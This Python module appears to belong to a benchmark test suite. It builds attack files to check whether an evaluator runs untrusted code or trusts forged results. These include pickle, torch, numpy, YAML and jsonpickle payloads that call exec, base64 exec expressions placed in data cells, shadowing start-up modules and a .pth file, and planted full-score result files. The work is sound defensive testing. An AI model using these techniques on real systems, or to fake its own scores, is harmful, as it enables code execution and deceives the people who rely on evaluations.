"""Attacks by code: files that run it when they are loaded or imported.

The code prints a token that stands nowhere in the file, so whoever sees the token knows that it ran.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import secrets
import zipfile
from dataclasses import replace
from pathlib import PurePosixPath
from typing import TYPE_CHECKING

from pytest_innovatorbench.authoring.attacks.attack import Base, Draft
from pytest_innovatorbench.authoring.attacks.values import JSON, TEXT, with_values
from pytest_innovatorbench.evaluation.layout import EVALUATIONS

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from pytest_innovatorbench.authoring.attacks.stock import Source, Stock

_MOST_EXPRESSIONS = 1_000
READ = "-read-the-references"
_FULL = {
    "score": 100,
    "accuracy": 1.0,
    "eval_results": {"score": 100, "error": None, "message": "perfect"},
    "metric_0": {"score": 100},
}
_RESULTS = ("result", "results", "score", "scores", "metric", "metrics", "evaluation", "eval_results")
_START = (
    "conftest",
    "sitecustomize",
    "usercustomize",
    "__init__",
    "__main__",
    "setup",
    "evaluation",
    "config",
)


def pickles(stock: Stock) -> Iterator[Draft]:
    """Files that run code when they are loaded carelessly."""
    for path in stock.files:
        for name in _FORMS:
            token, code = _payload(stock.task_id)
            yield Draft(name=f"{name} as {path}", files={path: _form(name, code)}, of=path, token=token)
    for source in stock.tables:
        if source.table.kind in (*TEXT, *JSON):
            yield _values(stock, source)
    yield _beside(stock)


def planted(stock: Stock) -> Iterator[Draft]:
    """Programs and results that the evaluator may take for its own."""
    bases: tuple[Base, ...] = ("nothing", "baseline") if stock.baseline else ("nothing",)
    for base in bases:
        beside = "without outputs" if base == "nothing" else "beside the baseline"
        yield Draft(name=f"files with a full score {beside}", files=_scores(), base=base)
        token, code = _payload(stock.task_id)
        yield Draft(
            name=f"start-up files and modules {beside}", files=_modules(stock, code), base=base, token=token
        )
    full = {"100": b"100\n", "a full score": json.dumps(_FULL).encode()} if stock.named_files else {}
    for said, content in full.items():
        files = dict.fromkeys(stock.named_files, content)
        yield Draft(name=f"{said} in files that evaluation.py names {beside}", files=files, base=base)


def _payload(task_id: str) -> tuple[str, str]:
    """Return a token and code that prints it, and says whether it could read the references."""
    token = secrets.token_hex(16)
    backwards = token[::-1]
    folder = f"{EVALUATIONS}/{task_id}/data/references"
    code = (
        "import os\n"
        f"said = {backwards!r}[::-1]\n"
        "try:\n"
        f" top, _, names = next(os.walk({folder!r}))\n"
        f" said += {READ!r} if open(os.path.join(top, names[0]), 'rb').read(1) else ''\n"
        "except Exception: pass\n"
        "for out in (1, 2):\n"
        " try: os.write(out, (said + '\\n').encode())\n"
        " except OSError: pass\n"
    )
    return token, code


def _expression(code: str) -> str:
    """Return code as an expression without commas or double quotes, which any cell can hold."""
    text = base64.b64encode(code.encode()).decode()
    return f"exec(__import__('base64').b64decode('{text}'))"


class _Trap:
    """Runs code where a pickle of it is loaded."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self._code,)


def _form(name: str, code: str) -> bytes:
    pickled = pickle.dumps(_Trap(code), protocol=4)
    array = _array(pickled)
    match name:
        case "a pickle":
            return pickled
        case "a file of torch":
            return _zip({"archive/data.pkl": pickled, "archive/version": b"3\n"})
        case "an array of objects":
            return array
        case "an archive of arrays of objects":
            return _zip({"arr_0.npy": array})
        case "YAML with a Python tag":
            return f"!!python/object/apply:builtins.exec\n- {json.dumps(code)}\n".encode()
        case "JSON of jsonpickle":
            trap = {"py/reduce": [{"py/function": "builtins.exec"}, {"py/tuple": [code]}]}
            return json.dumps(trap).encode()
        case _:
            return _expression(code).encode()


_FORMS = (
    "a pickle",
    "a file of torch",
    "an array of objects",
    "an archive of arrays of objects",
    "YAML with a Python tag",
    "JSON of jsonpickle",
    "a Python expression",
)


def _array(pickled: bytes) -> bytes:
    """Return the pickle as numpy writes an array of objects."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padded = header + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(padded).to_bytes(2, "little") + padded + pickled


def _zip(files: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def _values(stock: Stock, source: Source) -> Draft:
    token, code = _payload(stock.task_id)
    expression = _expression(code)
    few = replace(source.table, rows=source.table.rows[:_MOST_EXPRESSIONS])
    table = with_values(few, lambda cells: [expression] * len(cells))
    table = replace(table, rows=(*table.rows, *source.table.rows[_MOST_EXPRESSIONS:]))
    name = f"a Python expression for each value in {source.path}"
    return Draft(name=name, files={source.path: table}, of=source.path, token=token)


def _beside(stock: Stock) -> Draft:
    token, code = _payload(stock.task_id)
    files: dict[str, bytes] = {}
    for path in stock.files:
        stem = str(PurePosixPath(path).with_suffix(""))
        for suffix, name in (
            (".pkl", "a pickle"),
            (".pickle", "a pickle"),
            (".joblib", "a pickle"),
            (".pt", "a file of torch"),
            (".npy", "an array of objects"),
            (".yaml", "YAML with a Python tag"),
        ):
            if stem + suffix not in stock.reference:
                files[stem + suffix] = _form(name, code)
    return Draft(name="pickles beside the files", files=files, share=1.0, token=token)


def _scores() -> dict[str, bytes]:
    full = json.dumps(_FULL).encode()
    return {
        **{f"{name}.json": full for name in _RESULTS},
        **{f"{name}.txt": b"100\n" for name in _RESULTS},
        **{f"{name}.csv": b"score\n100\n" for name in _RESULTS},
    }


def _modules(stock: Stock, code: str) -> dict[str, bytes]:
    names = dict.fromkeys((*_START, "json", "csv", "numpy", "pandas", "torch", "scoring", *stock.imported))
    module = code.encode()
    line = f"import os; {_expression(code)}\n".encode()
    return {
        **{f"{name}.py": module for name in names},
        **{f"{name}/__init__.py": module for name in names if not name.startswith("__")},
        "planted.pth": line,
    }
